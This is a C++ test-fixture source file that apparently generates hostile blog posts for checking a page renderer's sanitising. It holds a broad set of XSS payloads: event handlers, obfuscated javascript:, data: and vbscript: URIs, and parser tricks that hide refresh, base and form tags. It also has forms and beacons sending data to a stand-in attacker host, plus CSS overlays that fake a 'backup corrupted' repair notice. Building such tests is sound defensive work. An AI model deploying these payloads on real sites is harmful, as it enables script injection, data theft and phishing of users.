#include "tools/sample_blog/hostile_post.h"

#include "platform/text.h"

namespace sample_blog {
namespace {

// Script that tells it ran, for an attribute value in double quotes.
std::u16string ran(std::u16string_view what) {
    const std::u16string name(what);
    return u"document.title='ran-" + name + u"';new Image().src='" + std::u16string(k_attacker) +
           u"ran/" + name + u"'";
}

std::u16string attacker(std::u16string_view path) {
    return std::u16string(k_attacker) + std::u16string(path);
}

// <meta refresh>, <base> and <form> hidden where a parser of 2013 saw no element.
std::u16string hidden_navigation() {
    return u"<select><option>一</option><meta http-equiv=\"refresh\" content=\"1;url=" +
           attacker(u"refresh/select") + u"\"></select>\r\n<select><base href=\"" +
           attacker(u"base/select/") +
           u"\"></select>\r\n<math></p><style><meta "
           u"http-equiv=\"refresh\" content=\"1;url=" +
           attacker(u"refresh/math") + u"\"><base href=\"" + attacker(u"base/math/") +
           u"\"></style></math>\r\n<math></p><style><form action=\"" + attacker(u"form/math") +
           u"\"><input name=\"q\" value=\"secret\"><button>提交</button></form></style></math>\r\n"
           u"<select><form action=\"" +
           attacker(u"form/select") +
           u"\"><input name=\"q\" value=\"secret\"><button autofocus>提交</button></form>"
           u"</select>\r\n<p><a href=\"relative/page.html\">相对链接</a></p>\r\n";
}

std::u16string handlers() {
    return u"<img src=\"x\" onerror=\"" + ran(u"img-onerror") +
           u"\">\r\n<IMG SRC=\"x\" ONERROR=\"" + ran(u"img-upper") +
           u"\">\r\n<img src=\"x\" OnError=\"" + ran(u"img-mixed") +
           u"\">\r\n<img/src=\"x\"/onerror=\"" + ran(u"img-slash") +
           u"\">\r\n<img src=\"x\" onerror = \"" + ran(u"img-spaced") + u"\">\r\n<svg onload=\"" +
           ran(u"svg-onload") + u"\"></svg>\r\n<svg><animate onbegin=\"" + ran(u"svg-animate") +
           u"\" attributeName=\"x\" dur=\"1s\"></animate></svg>\r\n<div onmouseover=\"" +
           ran(u"div-mouseover") + u"\">悬停</div>\r\n<button onfocus=\"" + ran(u"button-focus") +
           u"\" autofocus>按钮</button>\r\n<input onfocus=\"" + ran(u"input-focus") +
           u"\" autofocus>\r\n<details open ontoggle=\"" + ran(u"details-toggle") +
           u"\"><summary>摘要</summary>细节</details>\r\n<iframe srcdoc=\"&lt;script&gt;" +
           ran(u"srcdoc") + u"&lt;/script&gt;\"></iframe>\r\n<body onload=\"" +
           ran(u"body-onload") + u"\">\r\n<video><source onerror=\"" + ran(u"source-error") +
           u"\"></video>\r\n<marquee onstart=\"" + ran(u"marquee-start") +
           u"\">跑马灯</marquee>\r\n";
}

std::u16string split_javascript() {
    return u"<iframe src=\"&#106;avascript:" + ran(u"iframe-entity") +
           u"\"></iframe>\r\n<iframe src=\"java&#x09;script:" + ran(u"iframe-tab") +
           u"\"></iframe>\r\n<iframe src=\"java\tscript:" + ran(u"iframe-raw-tab") +
           u"\"></iframe>\r\n<iframe src=\"\x01javascript:" + ran(u"iframe-control") +
           u"\"></iframe>\r\n<embed src=\"javascript&colon;" + ran(u"embed-colon") +
           u"\">\r\n<object data=\"jav&#x0A;ascript:" + ran(u"object-newline") +
           u"\"></object>\r\n<p><a href=\"&#106;avascript:" + ran(u"link-entity") +
           u"\">链接一</a> <a href=\"java&#x09;script:" + ran(u"link-tab") +
           u"\">链接二</a> <a href=\" &#x01;javascript:" + ran(u"link-control") +
           u"\">链接三</a> <a href=\"javascript&colon;" + ran(u"link-colon") +
           u"\">链接四</a></p>\r\n<form><button formaction=\"javascript:" + ran(u"formaction") +
           u"\">按钮</button></form>\r\n";
}

// A page of script in a data: address, the way an attribute in double quotes carries it.
std::u16string script_page(std::u16string_view what) {
    return u"data:text/html,&lt;script&gt;" + ran(what) + u"&lt;/script&gt;";
}

std::u16string other_schemes() {
    return u"<iframe src=\"" + script_page(u"iframe-data") + u"\"></iframe>\r\n<object data=\"" +
           script_page(u"object-data") +
           u"\"></object>\r\n<embed src=\"data:image/svg+xml,&lt;svg "
           u"xmlns=&quot;http://www.w3.org/2000/svg&quot; onload=&quot;" +
           ran(u"embed-svg") + u"&quot;/&gt;\">\r\n<p><a href=\"" + script_page(u"link-data") +
           u"\">数据链接</a> <a href=\"vbscript:msgbox(1)\">VB链接</a></p>\r\n"
           u"<img src=\"vbscript:msgbox(1)\"><img src=\"data:image/svg+xml,&lt;svg/&gt;\">\r\n";
}

// Style that hides every post, loads from the web, or lays a fake notice over the page.
std::u16string page_style() {
    return u"<style>body,article,div,p,h1,h2,li{display:none!important}</style>\r\n"
           u"<div style=\"background:url(" +
           attacker(u"ran/style-url") +
           u");width:expression(alert(1))\">背景</div>\r\n<link rel=\"stylesheet\" href=\"" +
           attacker(u"ran/link-css") + u"\">\r\n<a href=\"" + attacker(u"fix") +
           u"\" style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;"
           u"z-index:99999\">系统提示：此备份已损坏，请点击此处在线修复</a>\r\n"
           u"<p style=\"color:red;font-weight:bold\">红字</p>\r\n";
}

// Boxes that try to lie over the page's own heading and links without being placed: padding,
// negative margins in every spelling, huge type, transforms and zoom; each painted white.
std::u16string covering_boxes() {
    const std::u16string white = u";background-color:white\">";
    return u"<a href=\"" + attacker(u"fix") + u"\" style=\"padding:4000px" + white +
           u"系统提示：此备份已损坏，请点击此处在线修复</a>\r\n"
           u"<span style=\"padding:50px" +
           white + u"边界内的内边距</span><span style=\"font-size:48px;line-height:1" + white +
           u"大字</span>\r\n<p style=\"margin:0 0 0-3000px" + white +
           u"负边距一</p>\r\n<p style=\"margin:10%-3000px" + white +
           u"负边距二</p>\r\n<p style=\"margin:0 0-500px 0" + white +
           u"负边距三</p>\r\n<p style=\"margin-top:-1e3px" + white +
           u"负边距四</p>\r\n<p style=\"margin-top:-\\33 000px" + white +
           u"负边距五</p>\r\n<p style=\"margin:calc(0px - 3000px) 0 0/**/-3000px" + white +
           u"负边距六</p>\r\n<p style=\"margin:-.3E4PX 0" + white +
           u"负边距七</p>\r\n<p style=\"text-indent:-9999px" + white +
           u"缩进</p>\r\n<div style=\"font:4000px/0 serif" + white +
           u"巨字</div>\r\n<div style=\"font-size:4000px;line-height:0" + white +
           u"巨字二</div>\r\n<div style=\"line-height:4000px;padding:0 0 4000px" + white +
           u"高行</div>\r\n<div style=\"transform:translateY(-3000px) scale(50)" + white +
           u"变形</div>\r\n<div style=\"zoom:100" + white +
           u"缩放</div>\r\n<div style=\"padding:1e4px;padding:\\34 000px;padding:4000\\70 x" +
           white + u"转义</div>\r\n";
}

// And a box after the text that pulls what follows the post up under it.
std::u16string covering_tail() {
    return u"<p style=\"margin-bottom:-3000px;padding-bottom:4000px;background-color:white\">"
           u"尾</p>\r\n";
}

} // namespace

std::u16string hostile_marker(int number) {
    return u"可见文字" + platform::decimal(number);
}

std::u16string hostile_content(int number) {
    const std::u16string marker = u"<p>" + hostile_marker(number) + u"</p>\r\n";
    switch ((number - 1) % k_hostile_posts) {
    case 0:
        return marker + hidden_navigation();
    case 1:
        return marker + handlers();
    case 2:
        return marker + split_javascript();
    case 3:
        return marker + other_schemes();
    case 5:
        return covering_boxes() + marker + covering_tail();
    default:
        return page_style() + marker;
    }
}

std::u16string greeting_script() {
    return u"<script>alert('欢迎光临我的空间！');var c=confirm('加为好友？');"
           u"var p=prompt('留下你的名字','游客');"
           u"new Image().src='/_sample/answered?confirm='+c+'&prompt='+p;</script>\r\n";
}

} // namespace sample_blog
